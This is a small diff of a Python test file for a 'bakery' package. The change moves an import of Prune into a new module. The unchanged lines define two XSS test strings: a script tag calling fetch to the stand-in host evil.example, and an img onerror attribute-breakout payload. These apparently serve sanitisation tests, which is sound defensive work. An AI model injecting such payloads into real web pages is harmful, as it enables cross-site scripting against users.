@@ -14,8 +14,8 @@ import pytest
 from PIL import Image
 
 from bakery import rulings, tag_edits, tag_page
-from bakery.config import Prune
 from bakery.evidence import Evidence
+from bakery.prune_settings import Prune
 
 NASTY = '<script>fetch("http://evil.example/")</script>'
 QUOTED = '"><img src=x onerror="document.title=1">'
